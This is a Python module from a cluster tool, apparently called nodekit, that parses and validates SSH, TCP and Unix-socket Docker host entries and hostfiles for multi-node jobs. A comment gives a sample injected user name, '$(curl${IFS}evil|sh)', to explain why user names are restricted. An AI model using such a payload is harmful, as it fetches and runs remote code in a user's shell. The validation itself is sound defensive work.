"""The fleet's hosts, pure: parsed from ``hosts = [...]`` or a DeepSpeed/MPI hostfile, validated, ranked.

Bad input is a UsageError (exit 2) before anything is contacted: a URL that is not ``ssh://``, ``tcp://`` or
``unix://`` with a plain host and port, fewer hosts than ``nnodes``, the same host and port twice (compared
written one way: case, a final dot, default ports, the spellings of one IP address; two DNS names for one machine
are not caught, that needs the network), ``min_nodes > nnodes``.
"""

from __future__ import annotations

import ipaddress
import re
import shlex
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from nodekit.config.file import read_text
from nodekit.config.inputs import MAX_NODES, MAX_PROCS, hostname_problem, same_host_key, text_problem
from nodekit.errors import UsageError

if TYPE_CHECKING:
    from nodekit.config.settings import Settings

SCHEMES = ("ssh", "tcp", "unix")
# What an endpoint without a port means: ssh's port, and the Docker daemon's plain-TCP port (2376 with TLS is
# written explicitly in practice; a tcp://host and tcp://host:2376 pair is not taken for one machine).
DEFAULT_PORTS = {"ssh": 22, "tcp": 2375}
_FORMS = "write it as ssh://user@host (or ssh://user@host:2222, tcp://host:2376, unix:///var/run/docker.sock)"
# POSIX's portable user names (no leading '-', which ssh would take for an option). Anything else, such as
# $(curl${IFS}evil|sh), would be printed inside the Fix commands nodekit tells the user to paste into a shell.
_USER = re.compile(r"[A-Za-z0-9._][A-Za-z0-9._-]*")
HOSTS_FIX = 'hosts = ["ssh://user@10.0.0.5", "ssh://user@10.0.0.6"] in nodekit.toml, or --hostfile FILE'
# How a host is reached for its check, by its endpoint's scheme: a unix:// engine is on this machine, no SSH involved.
REACHED = {
    "ssh": "over SSH",
    "unix": "on this machine, through its engine's socket",
    "tcp": "through its engine's TCP endpoint",
}


@dataclass(frozen=True)
class FleetHost:
    """One node's machine: ``url`` is its Docker endpoint (also how SSH reaches it for ``ssh://``)."""

    rank: int
    url: str
    scheme: str
    hostname: str
    user: str | None = None
    port: int | None = None
    slots: int | None = None

    @property
    def name(self) -> str:
        """How messages call it: ``node R (user@host)``."""
        return f"node {self.rank} ({self.where})"

    @property
    def where(self) -> str:
        if self.scheme == "unix":
            return "this machine"
        user = f"{self.user}@" if self.user else ""
        port = f":{self.port}" if self.port else ""
        return f"{user}{self.hostname}{port}"

    @property
    def target(self) -> str:
        """``user@host`` for ssh, quoted for a shell: how a Fix line a user pastes names it."""
        return shlex.quote(f"{self.user}@{self.hostname}" if self.user else self.hostname)

    @property
    def key(self) -> tuple[str, int | None]:
        """The machine and engine port, written one way: two entries with one key are one engine."""
        return (same_host_key(self.hostname), self.port or DEFAULT_PORTS.get(self.scheme))


def parse_host(url: str, rank: int, slots: int | None = None) -> FleetHost:
    """One ``hosts`` entry; UsageError naming it unless it is an ``ssh://``, ``tcp://`` or ``unix://`` URL with a
    plain host name or IP address, a port in 1..65535 and nothing else (no password, path, query or spaces)."""
    raw = url.strip()
    if text_problem(raw) is not None or any(c.isspace() for c in raw):
        raise UsageError(f"host {rank} {url!r} has spaces or control characters", fix=_FORMS)
    try:
        parts = urlsplit(raw)
    except ValueError as e:  # "Invalid IPv6 URL": a bracket not closed
        raise UsageError(f"host {rank} {url!r} is not a URL ({e})", fix=_FORMS) from None
    if parts.scheme not in SCHEMES or (parts.scheme != "unix" and not parts.hostname):
        raise UsageError(f"host {rank} {url!r} is not an ssh://, tcp:// or unix:// Docker endpoint", fix=_FORMS)
    try:
        port = parts.port
    except ValueError:
        port = 0
    if port == 0:
        raise UsageError(f"host {rank} {url!r} has a bad port (1 to 65535)", fix="ssh://user@host:22")
    if parts.scheme == "unix":
        if parts.netloc or not parts.path.startswith("/") or parts.query or parts.fragment:
            raise UsageError(f"host {rank} {url!r} is not a socket path", fix="unix:///var/run/docker.sock")
        return FleetHost(rank=rank, url=raw, scheme="unix", hostname=parts.path, slots=slots)
    hostname = str(parts.hostname)
    problem = hostname_problem(hostname)
    if parts.username is not None and not _USER.fullmatch(parts.username):
        raise UsageError(
            f"host {rank} {url!r} has an empty or odd user name before its '@' (a user name is letters, digits, "
            "'.', '_' and '-', not first)",
            fix=_FORMS,
        )
    extra = parts.password is not None or parts.path not in ("", "/") or parts.query or parts.fragment
    if problem is not None or extra or (parts.scheme == "tcp" and parts.username):
        why = problem or "has a password, a path or a query, which a Docker endpoint does not take"
        raise UsageError(f"host {rank} {url!r}: {why}", fix=_FORMS)
    return FleetHost(
        rank=rank, url=raw, scheme=parts.scheme, hostname=hostname, user=parts.username, port=port, slots=slots
    )


def parse_hostfile(text: str, *, user: str | None = None) -> list[tuple[str, int | None]]:
    """A DeepSpeed/MPI hostfile: ``host slots=N`` per line, ``#`` comments; ``(ssh URL, slots)`` in order. A line
    may also be a full URL. ``user`` is put in front of bare host names. ``slots`` is 1..MAX_PROCS (0 is refused, never
    replaced); ``max_slots`` is accepted and ignored."""
    entries = []
    for n, raw in enumerate(text.splitlines(), 1):
        line = raw.split("#", 1)[0].strip()
        if not line:
            continue
        host, *opts = line.split()
        slots = None
        for opt in opts:
            key, _, value = opt.partition("=")
            count = int(value) if re.fullmatch(r"[0-9]{1,9}", value) else 0
            if key not in ("slots", "max_slots") or not 1 <= count <= (MAX_PROCS if key == "slots" else 10**9):
                raise UsageError(
                    f"hostfile line {n}: {raw.strip()!r} is not 'host slots=N' with N in 1..{MAX_PROCS}",
                    fix="host slots=8",
                )
            if key == "slots":
                slots = count
        url = host if "://" in host else f"ssh://{user + '@' if user and '@' not in host else ''}{host}"
        entries.append((url, slots))
    return entries


def fleet_hosts(
    urls: Sequence[str], nnodes: int, *, min_nodes: int | None = None, slots: Sequence[int | None] = ()
) -> list[FleetHost]:
    """The first ``nnodes`` hosts, ranked by position; UsageError on bad input (see the module docstring)."""
    if not urls:
        raise UsageError("no hosts configured for nodekit run", fix=HOSTS_FIX)
    if nnodes > MAX_NODES:  # hosts = [...] alone sets nnodes; the bound and why: nodekit/config/inputs.py
        raise UsageError(f"{nnodes} hosts is more than the {MAX_NODES} nodes one job can hold", fix=HOSTS_FIX)
    hosts = [parse_host(u, r, slots[r] if r < len(slots) else None) for r, u in enumerate(urls)]
    if len(hosts) < nnodes:
        raise UsageError(
            f"{len(hosts)} host(s) for nnodes = {nnodes}",
            fix=f"list {nnodes} hosts, or set nnodes = {len(hosts)}",
        )
    if min_nodes is not None and min_nodes > nnodes:
        raise UsageError(f"min_nodes = {min_nodes} is more than nnodes = {nnodes}", fix=f"min_nodes <= {nnodes}")
    seen: dict[tuple[str, int | None], FleetHost] = {}
    for h in hosts[:nnodes]:
        if h.scheme == "unix":
            continue
        other = seen.get(h.key)
        if other is not None:
            raise UsageError(
                f"hosts {other.rank} ({other.url}) and {h.rank} ({h.url}) are the same machine and port: two nodes "
                "would share one engine, one set of GPUs and the rendezvous ports",
                fix="list every machine once (or give each its own Docker endpoint port)",
            )
        seen[h.key] = h
    return hosts[:nnodes]


def fleet_main(host0: FleetHost, main: str | None) -> str:
    """Where a fleet's nodes reach main: the configured ``main``, else host 0's own address (unix://: loopback).
    One node planning alone asks :func:`nodekit.job.spec.main_address`, which can only guess its own address."""
    if main:
        return main
    if host0.scheme == "unix":
        return "127.0.0.1"
    return host0.hostname


def check_main_on_host0(main_ip: str, main: str | None, host0: FleetHost, addresses: frozenset[str]) -> None:
    """With host networking, node 0 serves the rendezvous on main's address, so that address must be one of host 0's
    own (``addresses``, as host 0 reported them; empty: not known, as for tcp://, and not judged). Otherwise every
    node would start and wait for a main that is not there until rdzv_timeout. A UsageError (exit 2) before any
    node starts."""
    if not addresses or any(_same_ip(main_ip, a) for a in addresses):
        return
    own = ", ".join(sorted(a for a in addresses if not a.startswith(("127.", "::1")))) or "none but loopback"
    said = f"main = {main!r} ({main_ip})" if main else f"main, host 0's name {host0.hostname!r} ({main_ip}),"
    raise UsageError(
        f"{said} is none of {host0.name}'s addresses ({own}): every node would wait for a main that is not there",
        fix=f'main = "<one of {host0.where}\'s addresses above, as the other hosts reach it>" in nodekit.toml'
        + (", or remove main (host 0's own address)" if main else ""),
    )


def _same_ip(a: str, b: str) -> bool:
    try:
        return ipaddress.ip_address(a) == ipaddress.ip_address(b)
    except ValueError:
        return False


def read_hostfile(path: Path, *, user: str | None = None) -> list[tuple[str, int | None]]:
    """Read as nodekit.toml is (``config.file.read_text``): a regular file of at most 4 MiB, UTF-8, or one line
    saying which it is not (``--hostfile /dev/zero`` or a FIFO is refused, never read)."""
    return parse_hostfile(
        read_text(path, f"hostfile {path}", "pass a regular UTF-8 file you can read as --hostfile"), user=user
    )


def hosts_of(settings: Settings, hostfile: Path | None = None, *, stated: bool = False) -> list[FleetHost]:
    """The validated hosts of this job (``--hostfile`` wins over ``hosts``); ``nnodes`` defaults to their number.

    More hosts than ``nnodes`` is never a silent cut: it is a UsageError unless ``stated`` (``--nnodes`` on the
    command line, a choice the user made for this run), in which case the first ``nnodes`` hosts are the job and
    :func:`left_out` names the others for the command to print."""
    urls, slots = list(settings.hosts), []
    if hostfile is not None:
        entries = read_hostfile(hostfile)
        urls, slots = [u for u, _ in entries], [s for _, s in entries]
    nnodes = settings.nnodes if "nnodes" in settings.model_fields_set else len(urls) or settings.nnodes
    if len(urls) > nnodes and not stated:
        where = f"hostfile {hostfile}" if hostfile is not None else "hosts"
        raise UsageError(
            f"{where} lists {len(urls)} hosts but nnodes = {nnodes}: {len(urls) - nnodes} host(s) would be left out "
            f"({', '.join(urls[nnodes:][:3])}{', ...' if len(urls) - nnodes > 3 else ''})",
            fix=f"remove nnodes from nodekit.toml (the hosts count the nodes), list {nnodes} hosts, "
            f"or pass --nnodes {nnodes} to run on the first {nnodes}",
        )
    outside = sorted(r for r in settings.nodes if r >= nnodes)
    if outside:
        from nodekit.config.settings import node_rank_problem

        raise UsageError(node_rank_problem(outside[0], nnodes), fix=f"remove [nodes.{outside[0]}], or list more hosts")
    return fleet_hosts(urls, nnodes, min_nodes=settings.min_nodes, slots=slots)


def left_out(settings: Settings, hosts: Sequence[FleetHost], hostfile: Path | None = None) -> list[str]:
    """The hosts (or hostfile entries) past ``nnodes`` that a stated ``--nnodes`` leaves out of the job."""
    urls = [u for u, _ in read_hostfile(hostfile)] if hostfile is not None else list(settings.hosts)
    return urls[len(hosts) :]


def hosts_checked(hosts: Iterable[FleetHost]) -> str:
    """Pure: how ``hosts`` are checked before anything starts ("every host is checked over SSH" when all are
    ``ssh://``; each kind named where they are mixed)."""
    kinds = list(dict.fromkeys(h.scheme for h in hosts))
    if len(kinds) == 1:
        return f"every host is checked {REACHED[kinds[0]]}"
    return "every host is checked: " + ", ".join(f"{k}:// hosts {REACHED[k]}" for k in kinds)


def check_items(hosts: Iterable[FleetHost]) -> str:
    """Pure: what each host's check covers, as the run's progress names it (SSH only where an ``ssh://`` host is)."""
    ssh = "SSH, " if any(h.scheme == "ssh" for h in hosts) else ""
    return f"{ssh}Docker engine and Compose, GPUs, ports on main, the image"
